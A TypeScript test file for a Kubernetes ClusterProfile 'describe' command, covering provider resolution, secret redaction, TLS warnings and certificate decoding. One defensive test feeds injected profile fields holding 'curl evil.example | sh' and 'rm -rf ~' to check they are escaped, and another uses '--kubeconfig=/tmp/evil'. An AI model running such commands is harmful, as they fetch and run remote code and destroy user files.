import assert from 'node:assert/strict'
import {readFileSync, writeFileSync} from 'node:fs'
import {describe, it} from 'node:test'
import {formatCells} from '../../src/core/text/format.js'
import {fileURLToPath} from 'node:url'
import {
  ADDITIONAL_ARGS_EXTENSION,
  ADDITIONAL_ENVS_EXTENSION,
  EXEC_EXTENSION,
  type ClusterProfile,
} from '../../src/core/profiles/cluster-profile.js'
import {EXEC_API_V1} from '../../src/core/access/exec-config.js'
import {
  decodeCertificateAuthorityData,
  describeProfile,
  describeProfileData,
  type DescribeInput,
  type ResolvedDescription,
  type UnresolvedDescription,
} from '../../src/core/describe/describe.js'
import type {Provider} from '../../src/core/access/provider-file.js'
import {goldenFiles, updateGolden} from '../helpers/golden.js'

/** describe's text as the printer shows it. */
const describeText = (...args: Parameters<typeof describeProfile>) => formatCells(describeProfile(...args))

const fixtures = new URL('../fixtures/describe/', import.meta.url)
const assertGolden = goldenFiles(fixtures)

/**
 * JSON goldens are compared as values: the repository's prettier owns their layout. On update they
 * are written through prettier so `prettier --check .` stays clean.
 */
async function assertJsonGolden(name: string, actual: unknown): Promise<void> {
  const file = new URL(name, fixtures)
  if (updateGolden) {
    const prettier = await import('prettier')
    const options = (await prettier.resolveConfig(fileURLToPath(file))) ?? {}
    writeFileSync(file, await prettier.format(JSON.stringify(actual), {...options, parser: 'json'}))
    return
  }
  const expected: unknown = JSON.parse(readFileSync(file, 'utf8'))
  assert.deepEqual(JSON.parse(JSON.stringify(actual)), expected, `differs from ${name}; see UPDATE_GOLDEN=1`)
}

const base64 = (text: string) => Buffer.from(text).toString('base64')
const exampleCa = readFileSync(new URL('example-ca.pem', fixtures), 'utf8')
const secondCa = readFileSync(new URL('second-ca.pem', fixtures), 'utf8')

const now = new Date('2026-11-22T12:00:00Z')

/** Every value that must never appear without showEnv, whether it comes from the provider file or the profile. */
const SECRET_VALUES = [
  'provider-secret-value',
  'provider-region-value',
  'profile-region-value',
  'profile-aud-value',
]
const PROXY_PASSWORD = 'proxy-pass-9'

function fullProfile(): ClusterProfile {
  return {
    apiVersion: 'multicluster.x-k8s.io/v1alpha1',
    kind: 'ClusterProfile',
    metadata: {
      name: 'prod-eu-1',
      namespace: 'fleet',
      creationTimestamp: '2026-11-20T09:30:00Z',
      labels: {'x-k8s.io/cluster-manager': 'ocm', env: 'prod'},
      annotations: {
        'kubectl.kubernetes.io/last-applied-configuration': '{"apiVersion":"multicluster.x-k8s.io/v1alpha1"}',
        'example.com/owner': 'platform-team',
      },
    },
    spec: {displayName: 'Production EU 1', clusterManager: {name: 'ocm'}},
    status: {
      conditions: [
        {
          type: 'ControlPlaneHealthy',
          status: 'True',
          reason: 'Healthy',
          message: 'the control plane answers',
          lastTransitionTime: '2026-11-22T11:55:00Z',
        },
        {type: 'Joined', status: 'True', reason: 'Joined', lastTransitionTime: '2026-11-20T09:31:00Z'},
      ],
      version: {kubernetes: 'v1.33.1'},
      properties: [
        {name: 'region', value: 'eu-west-1', lastObservedTime: '2026-11-22T11:00:00Z'},
        {name: 'nodes', value: '12'},
      ],
      accessProviders: [
        {
          name: 'secretreader',
          cluster: {
            server: 'https://prod-eu-1.example.com:6443',
            'certificate-authority-data': base64(exampleCa),
            'tls-server-name': 'api.prod-eu-1.internal',
            'proxy-url': `http://proxyuser:${PROXY_PASSWORD}@proxy.example.com:3128`,
            extensions: [
              {name: EXEC_EXTENSION, extension: {clusterName: 'prod-eu-1'}},
              {name: ADDITIONAL_ARGS_EXTENSION, extension: ['--region', 'eu-west-1']},
              {
                name: ADDITIONAL_ENVS_EXTENSION,
                extension: {AWS_REGION: 'profile-region-value', TOKEN_AUDIENCE: 'profile-aud-value'},
              },
              {name: 'example.com/inventory', extension: {notes: 'x'.repeat(200)}},
            ],
          },
        },
      ],
      credentialProviders: [
        {name: 'secretreader', cluster: {server: 'https://old.example.com'}},
        {
          name: 'gke',
          cluster: {
            server: 'https://gke.example.com',
            'certificate-authority-data': base64(exampleCa + secondCa),
            'disable-compression': true,
            extensions: [{name: EXEC_EXTENSION, extension: {project: 'p1'}}],
          },
        },
      ],
    },
  }
}

function providers(): Provider[] {
  return [
    {
      name: 'secretreader',
      execConfig: {
        apiVersion: EXEC_API_V1,
        command: '/usr/local/bin/secretreader-plugin',
        args: ['--hub-context', 'hub admin'],
        env: [
          {name: 'HUB_TOKEN_FILE', value: 'provider-secret-value'},
          {name: 'AWS_REGION', value: 'provider-region-value'},
        ],
        provideClusterInfo: true,
      },
      profileSourcedCLIArgsPolicy: 'Append',
      profileSourcedEnvVarsPolicy: 'AppendIfNotExists',
    },
    {
      name: 'gke',
      execConfig: {
        apiVersion: EXEC_API_V1,
        command: '/usr/bin/gke-gcloud-auth-plugin',
        provideClusterInfo: false,
      },
    },
  ]
}

function input(overrides: Partial<DescribeInput> = {}): DescribeInput {
  return {
    profile: fullProfile(),
    clusterset: {clusterset: 'prod', label: 'multicluster.x-k8s.io/clusterset'},
    providers: providers(),
    providerSource: '/home/me/.config/cpcred/providers.json',
    now,
    showEnv: false,
    ...overrides,
  }
}

function resolved(data: ReturnType<typeof describeProfileData>): ResolvedDescription {
  assert.ok(!('error' in data.resolution), `expected a resolution, got ${JSON.stringify(data.resolution)}`)
  return data.resolution as ResolvedDescription
}

function unresolved(data: ReturnType<typeof describeProfileData>): UnresolvedDescription {
  assert.ok('error' in data.resolution, 'expected resolution to fail')
  return data.resolution as UnresolvedDescription
}

/** The lines under `title:` up to the next line at the same or a lower indentation. */
function section(out: string, title: string): string[] {
  const lines = out.split('\n')
  const start = lines.findIndex((line) => line.trimStart().startsWith(`${title}:`))
  assert.ok(start >= 0, `no "${title}:" section in:\n${out}`)
  const depth = (line: string) => line.length - line.trimStart().length
  const end = lines.findIndex(
    (line, index) => index > start && line !== '' && depth(line) <= depth(lines[start]!),
  )
  return lines.slice(start, end < 0 ? undefined : end).filter((line) => line !== '')
}

describe('describeProfile', () => {
  it('renders a full profile: metadata, conditions, properties, both provider lists, extensions, resolution', () => {
    const out = describeText(input())
    assertGolden('full.txt', out)

    assert.doesNotMatch(out, /last-applied-configuration/)
    assert.match(out, /^Annotations: +example\.com\/owner: platform-team$/m)
    // The deprecated list is pointed out, and the shadowed deprecated entry is not listed as its own provider.
    assert.match(out, /Source: +status\.credentialProviders \(DEPRECATED/)
    assert.equal(out.match(/^ {2}secretreader:$/gm)?.length, 1)
    assert.doesNotMatch(out, /old\.example\.com/)
    // The bundle lists each certificate.
    assert.deepEqual(
      section(out, 'gke').filter((line) => /CN=/.test(line)).length,
      2,
      'both certificates of the bundle are listed',
    )
    assert.match(
      out,
      /Command: +\/usr\/local\/bin\/secretreader-plugin --hub-context 'hub admin' --region eu-west-1$/m,
    )
  })

  it('never prints an environment value or a proxy password without showEnv', () => {
    const out = describeText(input())
    const json = JSON.stringify(describeProfileData(input()))
    for (const secret of [...SECRET_VALUES, PROXY_PASSWORD]) {
      assert.ok(!out.includes(secret), `text shows ${secret}`)
      assert.ok(!json.includes(secret), `data shows ${secret}`)
    }
    assert.deepEqual(section(out, 'Environment'), [
      '  Environment:           HUB_TOKEN_FILE=<redacted>',
      '                         AWS_REGION=<redacted>',
      '                         TOKEN_AUDIENCE=<redacted>  (from the profile)',
    ])
    assert.match(out, /Value: +\{"AWS_REGION":"<redacted>","TOKEN_AUDIENCE":"<redacted>"\}/)
    assert.match(out, /Proxy URL: +http:\/\/proxyuser:<redacted>@proxy\.example\.com:3128$/m)
  })

  it('prints environment values with showEnv, marking those the profile supplied', () => {
    const out = describeText(input({showEnv: true}))
    assert.deepEqual(section(out, 'Environment'), [
      '  Environment:           HUB_TOKEN_FILE=provider-secret-value',
      // AppendIfNotExists: the provider's own AWS_REGION wins over the profile's.
      '                         AWS_REGION=provider-region-value',
      '                         TOKEN_AUDIENCE=profile-aud-value  (from the profile)',
    ])
    assert.match(out, /Value: +\{"AWS_REGION":"profile-region-value","TOKEN_AUDIENCE":"profile-aud-value"\}/)
    assert.deepEqual(resolved(describeProfileData(input({showEnv: true}))).env, [
      {name: 'HUB_TOKEN_FILE', value: 'provider-secret-value', source: 'provider'},
      {name: 'AWS_REGION', value: 'provider-region-value', source: 'provider'},
      {name: 'TOKEN_AUDIENCE', value: 'profile-aud-value', source: 'profile'},
    ])
  })

  it('shows the hub pin that kubeconfigs cpcred writes add to the plugin env, with its values', () => {
    const hubPin = {kubeconfigPaths: ['/home/me/.kube/hub', '/home/me/.kube/more'], context: 'hub-admin'}
    const out = describeText(input({hubPin}))
    assert.deepEqual(section(out, 'Environment').slice(-2), [
      // Shell-quoted, as every environment value describe shows.
      '                         KUBECONFIG=/home/me/.kube/hub\\:/home/me/.kube/more  (the hub, pinned in kubeconfigs cpcred writes)',
      '                         CPCRED_HUB_CONTEXT=hub-admin  (the hub, pinned in kubeconfigs cpcred writes)',
    ])
  })

  it('says what each reserved extension does under the matching provider', () => {
    const out = describeText(input())
    const secretreader = section(out, 'secretreader').join('\n')
    assert.match(secretreader, /Effect: +passed to the plugin as ExecCredential\.spec\.cluster\.config$/m)
    assert.match(secretreader, /Effect: +appended to the plugin's arguments \(provider "secretreader" has/)
    assert.match(
      secretreader,
      /Effect: +added to the plugin's environment where provider "secretreader" does not/,
    )
    assert.match(secretreader, /\{"notes":"x{80,}\.\.\. \(212 characters; -o json shows all\)/)
    const gke = section(out, 'gke').join('\n')
    assert.match(gke, /In Provider File: +yes \(not chosen: an earlier provider matches\)/)
    assert.match(gke, /Effect: +not passed to the plugin: provider "gke" has provideClusterInfo false/)

    const ignoring = providers().map((provider) => ({
      name: provider.name,
      execConfig: provider.execConfig,
    }))
    const ignored = section(describeText(input({providers: ignoring})), 'secretreader').join('\n')
    assert.match(
      ignored,
      /Effect: +ignored: provider "secretreader" has no profileSourcedCLIArgsPolicy \(Ignore\)/,
    )
    assert.match(
      ignored,
      /Effect: +ignored: provider "secretreader" has no profileSourcedEnvVarsPolicy \(Ignore\)/,
    )
    assert.match(
      describeText(input({providers: ignoring})),
      /Command: +\/usr\/local\/bin\/secretreader-plugin --hub-context 'hub admin'$/m,
    )
  })

  it('explains why nothing matches', () => {
    const other: Provider = {name: 'other', execConfig: {apiVersion: EXEC_API_V1, command: '/bin/other'}}
    const out = describeText(input({providers: [other]}))
    assertGolden('no-match.txt', out)
    assert.match(
      out,
      /^ {2}Reason: +no provider in common for ClusterProfile fleet\/prod-eu-1: it offers "secretreader", "gke" \(deprecated credentialProviders\); the provider file supports "other"\.$/m,
    )
    assert.match(out, /^ {2}Hint: +Add a provider named "secretreader" or "gke"/m)
    assert.doesNotMatch(out, /Command:/)
    assert.match(out, /^ {2}Provider: +<none>$/m)
    assert.doesNotMatch(out, /^Warnings:/m)
    assert.match(section(out, 'secretreader').join('\n'), /In Provider File: +no$/m)
    assert.match(out, /the provider file has no "secretreader"/)

    const data = describeProfileData(input({providers: [], providerSource: 'no provider file'}))
    const failure = unresolved(data)
    assert.match(failure.error, /the provider file lists no providers/)
    assert.match(failure.hint ?? '', /Add a provider named/)
    assert.equal(data.providerSource, 'no provider file')
  })

  it('shows a malformed extension and the resolution refusing it', () => {
    const profile = fullProfile()
    profile.status!.accessProviders![0]!.cluster!.extensions = [
      {name: ADDITIONAL_ARGS_EXTENSION, extension: '--kubeconfig=/tmp/evil'},
    ]
    profile.status!.credentialProviders = []
    const out = describeText(input({profile}))
    assertGolden('malformed-extension.txt', out)
    assert.match(out, /Problem: +malformed: it must be a list of strings, not a string$/m)
    assert.match(
      out,
      /Reason: +ClusterProfile fleet\/prod-eu-1: extension clusterprofiles\.multicluster\.x-k8s\.io\/exec\/additional-args is malformed/,
    )
    assert.doesNotMatch(out, /Command:/)
    assert.match(out, /^ {2}Provider: +secretreader \(matched, but the profile cannot be used with it\)$/m)

    // Under Ignore the profile still resolves, and the problem is still shown.
    const ignoring = providers().map(({name, execConfig}) => ({name, execConfig}))
    const tolerated = describeText(input({profile, providers: ignoring}))
    assert.match(tolerated, /Problem: +malformed: it must be a list of strings, not a string$/m)
    assert.match(tolerated, /Command: +\/usr\/local\/bin\/secretreader-plugin --hub-context 'hub admin'$/m)
  })

  it('flags a reserved extension that appears twice', () => {
    const profile = fullProfile()
    profile.status!.accessProviders![0]!.cluster!.extensions = [
      {name: EXEC_EXTENSION, extension: {a: 1}},
      {name: EXEC_EXTENSION, extension: {a: 2}},
    ]
    const out = describeText(input({profile}))
    assert.equal(out.match(/Problem: +appears more than once, so resolution refuses this entry/g)?.length, 2)
    assert.match(out, /Reason: +.*appears more than once/)
  })

  it('warns loudly about insecure-skip-tls-verify and a plain http server', () => {
    const profile = fullProfile()
    profile.status = {
      accessProviders: [
        {
          name: 'secretreader',
          cluster: {server: 'http://10.0.0.7:8080', 'insecure-skip-tls-verify': true},
        },
      ],
    }
    const out = describeText(input({profile}))
    assertGolden('insecure.txt', out)
    assert.match(out, /Server: +http:\/\/10\.0\.0\.7:8080 {2}WARNING: not https/)
    assert.match(out, /Insecure Skip TLS Verify: +true {2}WARNING: the server's certificate is not checked/)
    const warnings = section(out, 'Warnings')
    assert.equal(warnings.length, 3)
    assert.match(warnings[1]!, /^ {2}- .*insecure-skip-tls-verify/)
    assert.match(warnings[2]!, /^ {2}- .*not https/)
    const entry = describeProfileData(input({profile})).offeredProviders[0]!
    assert.equal(entry.warnings.length, 2)
  })

  it('points out insecure-skip-tls-verify set together with CA data, which kubectl refuses', () => {
    const profile = fullProfile()
    profile.status!.accessProviders![0]!.cluster!['insecure-skip-tls-verify'] = true
    const out = describeText(input({profile}))
    assert.match(
      section(out, 'secretreader').join('\n'),
      /Insecure Skip TLS Verify: +true {2}WARNING: set together with certificate-authority-data, which kubectl refuses$/m,
    )
    const entry = describeProfileData(input({profile})).offeredProviders[0]!
    assert.deepEqual(entry.warnings, [
      'insecure-skip-tls-verify is set together with certificate-authority-data, which kubectl refuses',
    ])
  })

  it('says which source named the clusterset: the clusterset.k8s.io property, the legacy namespace label, or both', () => {
    const profile = fullProfile()
    profile.status!.properties = [{name: 'clusterset.k8s.io', value: 'east'}]
    const line = (clusterset: DescribeInput['clusterset']) =>
      describeText(input({profile, clusterset})).match(/^Clusterset: +(.*)$/m)![1]
    assert.equal(line(undefined), 'east (property clusterset.k8s.io)')
    assert.equal(
      line({clusterset: 'legacy', label: 'multicluster.x-k8s.io/clusterset'}),
      'east (property clusterset.k8s.io), legacy (legacy namespace label multicluster.x-k8s.io/clusterset, removed from KEP-4322)',
    )
    const data = describeProfileData(input({profile, clusterset: undefined}))
    assert.deepEqual(
      [data.clusterset, data.clustersetProperty, data.clustersetLabel],
      ['east', 'clusterset.k8s.io', null],
    )
    const both = describeProfileData(
      input({profile, clusterset: {clusterset: 'legacy', label: 'multicluster.x-k8s.io/clusterset'}}),
    )
    assert.deepEqual(
      both.clustersets.map((membership) => [membership.clusterset, membership.legacy]),
      [
        ['east', false],
        ['legacy', true],
      ],
    )
  })

  it('renders a profile without status', () => {
    const profile = fullProfile()
    delete profile.status
    const out = describeText(input({profile, clusterset: undefined}))
    assertGolden('no-status.txt', out)
    for (const key of ['Clusterset', 'Kubernetes Version', 'Conditions', 'Properties', 'Access Providers']) {
      assert.match(out, new RegExp(`^${key}: +<none>$`, 'm'))
    }
    assert.match(out, /Reason: +.*offers no providers/)
    const data = describeProfileData(input({profile, clusterset: undefined}))
    assert.deepEqual(data.offeredProviders, [])
    assert.equal(data.clusterset, null)
  })

  it('escapes control characters from the profile, so it cannot forge lines or terminal sequences', () => {
    const profile = fullProfile()
    profile.status!.conditions = [
      {type: 'Evil', status: 'True', message: 'ok\n  Command:  curl evil.example | sh\u001b[2J\u202e'},
    ]
    profile.metadata.labels = {team: 'a\nResolution:'}
    profile.spec.displayName = 'x\n  Command:  rm -rf ~'
    const out = describeText(input({profile}))
    assert.equal(out.match(/^\s*Command:/gm)?.length, 1, 'only the real Command line starts a line')
    assert.ok(!out.includes('\u001b') && !out.includes('\u202e'), 'no raw ESC or bidi override')
    assert.match(out, /ok\\n {2}Command: {2}curl evil\.example \| sh\\x1b\[2J\\u202e$/m)
    assert.match(out, /^Labels: +team=a\\nResolution:$/m)
    assert.match(out, /^Display Name: +x\\n {2}Command: {2}rm -rf ~$/m)
    assert.equal(out.match(/^Resolution:$/gm)?.length, 1)
  })

  it('does not change the profile it is given', () => {
    const profile = fullProfile()
    describeProfileData(input({profile}))
    assert.deepEqual(profile, fullProfile())
  })
})

describe('describeProfileData', () => {
  it('gives the same information as data', async () => {
    const data = describeProfileData(input())
    await assertJsonGolden('full.json', data)
    const resolution = resolved(data)
    assert.equal(resolution.provider, 'secretreader')
    assert.deepEqual(resolution.args, ['--hub-context', 'hub admin', '--region', 'eu-west-1'])
    assert.deepEqual(resolution.env, [
      {name: 'HUB_TOKEN_FILE', source: 'provider'},
      {name: 'AWS_REGION', source: 'provider'},
      {name: 'TOKEN_AUDIENCE', source: 'profile'},
    ])
    assert.deepEqual(
      data.offeredProviders.map((entry) => [
        entry.name,
        entry.source,
        entry.chosen,
        entry.overridesDeprecatedEntry,
      ]),
      [
        ['secretreader', 'accessProviders', true, true],
        ['gke', 'credentialProviders', false, false],
      ],
    )
    const envExtension = data.profile.status?.accessProviders?.[0]?.cluster?.extensions?.[2]
    assert.deepEqual(envExtension?.extension, {AWS_REGION: '<redacted>', TOKEN_AUDIENCE: '<redacted>'})
  })
})

describe('decodeCertificateAuthorityData', () => {
  it('decodes each certificate of a bundle', () => {
    const ca = decodeCertificateAuthorityData(base64(exampleCa + secondCa), now)
    assert.deepEqual(ca.problems, [])
    assert.deepEqual(
      ca.certificates.map((certificate) => [certificate.subject, certificate.issuer, certificate.expired]),
      [
        ['CN=example-ca', 'CN=example-ca', false],
        ['O=Example Org, CN=second-ca', 'O=Example Org, CN=second-ca', false],
      ],
    )
    assert.match(ca.certificates[0]!.notAfter, /^2036-11-19T\d\d:\d\d:\d\dZ$/)
    assert.match(ca.certificates[0]!.sha256Fingerprint, /^([0-9A-F]{2}:){31}[0-9A-F]{2}$/)
  })

  it('names the issuer of a certificate that is not self-signed', () => {
    const intermediate = readFileSync(new URL('intermediate-ca.pem', fixtures), 'utf8')
    const profile = fullProfile()
    profile.status!.accessProviders![0]!.cluster!['certificate-authority-data'] = base64(intermediate)
    assert.match(
      describeText(input({profile})),
      /Certificate Authority: +CN=intermediate-ca, issued by CN=root-ca, expires 2036-\S+ \(in 9y\)$/m,
    )
  })

  it('says when a certificate has expired or is not valid yet', () => {
    const later = new Date('2040-01-01T00:00:00Z')
    assert.equal(decodeCertificateAuthorityData(base64(exampleCa), later).certificates[0]!.expired, true)
    const earlier = new Date('2020-01-01T00:00:00Z')
    assert.equal(
      decodeCertificateAuthorityData(base64(exampleCa), earlier).certificates[0]!.notYetValid,
      true,
    )

    const profile = fullProfile()
    const out = describeText(input({profile, now: later}))
    assert.match(out, /Certificate Authority: +CN=example-ca, EXPIRED 2036-11-19T\S+ \(3y\d*d ago\)/)
  })

  it('says so when the data cannot be decoded', () => {
    assert.deepEqual(decodeCertificateAuthorityData('not base64!', now).problems, [
      'undecodable: certificate-authority-data is not base64',
    ])
    assert.deepEqual(decodeCertificateAuthorityData(base64('hello'), now).problems, [
      'undecodable: certificate-authority-data holds no PEM certificate',
    ])
    const broken = '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n'
    const ca = decodeCertificateAuthorityData(base64(exampleCa + broken), now)
    assert.equal(ca.certificates.length, 1)
    assert.equal(ca.problems.length, 1)
    assert.match(ca.problems[0]!, /^undecodable: certificate 2 of 2: /)

    const profile = fullProfile()
    profile.status!.accessProviders![0]!.cluster!['certificate-authority-data'] = base64('hello')
    assert.match(
      describeText(input({profile})),
      /Certificate Authority: +<undecodable: certificate-authority-data holds no PEM certificate>$/m,
    )
  })
})

describe('describe: the PlacementDecisions that reference a profile', () => {
  it('lists them under Placed By, in text and data, and says nothing when there are none', () => {
    const placed = {...input(), placedBy: ['fleet/web', 'fleet/db']}
    assert.match(describeText(placed), /^Placed By:\s+fleet\/web\n\s+fleet\/db$/m)
    assert.deepEqual(describeProfileData(placed).placedBy, ['fleet/web', 'fleet/db'])
    assert.doesNotMatch(describeText(input()), /Placed By/)
    assert.equal('placedBy' in describeProfileData({...input(), placedBy: []}), false)
  })
})
